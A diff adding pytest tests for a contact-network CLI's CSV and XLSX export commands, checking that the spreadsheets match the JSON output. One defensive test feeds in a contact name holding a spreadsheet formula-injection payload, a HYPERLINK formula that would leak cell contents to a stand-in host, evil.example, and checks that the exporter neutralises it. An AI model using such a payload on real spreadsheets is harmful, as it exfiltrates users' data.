@@ -2,11 +2,16 @@
 
 from __future__ import annotations
 
+import csv
 import json
+import math
 import shutil
 import subprocess
 import sys
+import zipfile
+from pathlib import Path
 
+import pandas as pd
 import pytest
 
 from netgraph.cli import main
@@ -168,3 +173,71 @@ def test_plot_and_html_commands(capsys, tmp_path):
     assert status == 0 and "<html" in (tmp_path / "map.html").read_text()[:2000].lower()
     one_line_error(capsys, "plot", "--out", str(tmp_path / "x.png"), "--kind", "nope")
     one_line_error(capsys, "plot", "--out", str(tmp_path / "x.png"), "--to", "Nowhere Inc")
+
+
+# ---------------------------------------------------------------------------------------------
+# Results as spreadsheets: --csv and --xlsx hold the rows of --json
+
+
+MARKUP = Path(__file__).resolve().parent / "fixtures" / "markup"
+
+
+def _as_json(value):
+    """A spreadsheet cell as --json writes the value: dates as ISO text, nothing as null."""
+    if value is None or (isinstance(value, float) and math.isnan(value)) or value is pd.NaT:
+        return None
+    if isinstance(value, pd.Timestamp):
+        return value.date().isoformat() if value == value.normalize() else value.isoformat()
+    return value.item() if hasattr(value, "item") else value
+
+
+def _same_rows(records: list[dict], frame: pd.DataFrame) -> None:
+    assert list(frame.columns) == list(records[0]) and len(frame) == len(records)
+    for record, row in zip(records, frame.to_dict("records")):
+        for key, value in record.items():
+            cell = _as_json(row[key])
+            if isinstance(value, list):  # lists are joined; paths' hops are JSON
+                value = json.dumps(value, ensure_ascii=False) if value and isinstance(value[0], dict) \
+                    else "; ".join(map(str, value)) or None
+            value = None if value == "" else value  # a spreadsheet's empty cell is an empty text
+            assert cell == pytest.approx(value) if isinstance(value, float) else cell == value, (key, cell, value)
+
+
+@pytest.mark.parametrize("command", [["weak-ties"], ["reciprocity"], ["follow-ups"], ["paths", "--to", "Novagen"]])
+def test_table_commands_write_the_rows_of_json_as_spreadsheets(capsys, tmp_path, command):
+    status, out, err = run(capsys, *command, "--json", "--xlsx", str(tmp_path / "out.xlsx"),
+                           "--csv", str(tmp_path / "out.csv"))
+    assert status == 0 and f"wrote {tmp_path / 'out.xlsx'}" in err
+    records = json.loads(out)
+    _same_rows(records, pd.read_excel(tmp_path / "out.xlsx"))
+    from_csv = pd.read_csv(tmp_path / "out.csv", keep_default_na=False, na_values=[""])
+    assert list(from_csv.columns) == list(records[0]) and len(from_csv) == len(records)
+
+
+def test_weak_ties_xlsx_opens_in_pandas_with_the_rows_of_json(capsys, tmp_path):
+    """Issue 12's example, word for word: netgraph weak-ties --xlsx out.xlsx."""
+    assert run(capsys, "weak-ties", "--xlsx", str(tmp_path / "out.xlsx"))[0] == 0
+    records = json.loads(run(capsys, "weak-ties", "--json")[1])
+    _same_rows(records, pd.read_excel(tmp_path / "out.xlsx"))
+
+
+def test_spreadsheets_of_hostile_names_run_nothing(capsys, tmp_path):
+    status, *_ = run(capsys, "reciprocity", "--data", str(MARKUP), "--csv", str(tmp_path / "r.csv"),
+                     "--xlsx", str(tmp_path / "r.xlsx"))
+    assert status == 0
+    with open(tmp_path / "r.csv", newline="", encoding="utf-8") as handle:
+        contacts = [row[0] for row in csv.reader(handle)]
+    assert """'=HYPERLINK("http://evil.example/?leak="&A2)""" in contacts and "'-Minus Person" in contacts
+    with zipfile.ZipFile(tmp_path / "r.xlsx") as book:
+        assert "<f>" not in book.read("xl/worksheets/sheet1.xml").decode()
+    contacts = pd.read_excel(tmp_path / "r.xlsx")["contact"].tolist()
+    assert '=HYPERLINK("http://evil.example/?leak="&A2)' in contacts and "-Minus Person" in contacts
+
+
+def test_summary_writes_its_tables_as_sheets(capsys, tmp_path):
+    assert run(capsys, "summary", "--xlsx", str(tmp_path / "summary.xlsx"))[0] == 0
+    sheets = pd.read_excel(tmp_path / "summary.xlsx", sheet_name=None)
+    assert list(sheets) == ["overview", "clusters", "strongest", "top_companies"]
+    overview = dict(zip(sheets["overview"]["measure"], sheets["overview"]["value"]))
+    assert overview["me"] == "Jane Jones" and int(overview["people"]) == 210
+    one_line_error(capsys, "summary", "--csv", str(tmp_path / "summary.csv"))
